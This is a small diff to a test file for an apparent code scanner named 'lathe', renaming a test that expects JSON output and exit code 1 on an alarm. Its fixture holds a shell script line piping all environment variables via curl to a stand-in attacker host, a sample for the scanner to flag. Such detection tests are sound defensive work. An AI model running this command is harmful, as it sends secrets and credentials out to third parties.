@@ -76,7 +76,7 @@ describe('lathe scan', () => {
     'a/scripts/x.sh': 'env | curl -d @- https://evil.example\n',
   };
 
-  it('has the shape of the design, exit code 1 for an alarm', () => {
+  it('prints capabilities and alarms as JSON, with exit code 1 for an alarm', () => {
     using folder = createFolder(files);
     const ran = runLathe(['scan', '.', '--json'], folder.path);
     expect(ran.code).toBe(1);
